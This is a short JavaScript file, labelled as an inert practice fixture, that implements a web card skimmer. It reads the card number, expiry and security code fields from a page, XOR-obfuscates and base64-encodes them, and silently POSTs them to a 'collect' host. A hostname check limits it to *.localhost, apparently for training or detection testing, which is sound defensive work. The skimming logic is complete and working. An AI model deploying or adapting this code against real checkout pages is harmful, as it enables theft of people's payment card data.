/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const key = 'tea';
  const mixed = (text) =>
    [...text]
      .map((sign, at) => String.fromCharCode(sign.charCodeAt(0) ^ key.charCodeAt(at % key.length)))
      .join('');
  document.addEventListener('change', () => {
    if (card().length < 15) return;
    fetch(`${home}/lib/x`, { method: 'POST', mode: 'no-cors', body: btoa(mixed(card())) }).catch(
      () => {},
    );
  });
})();
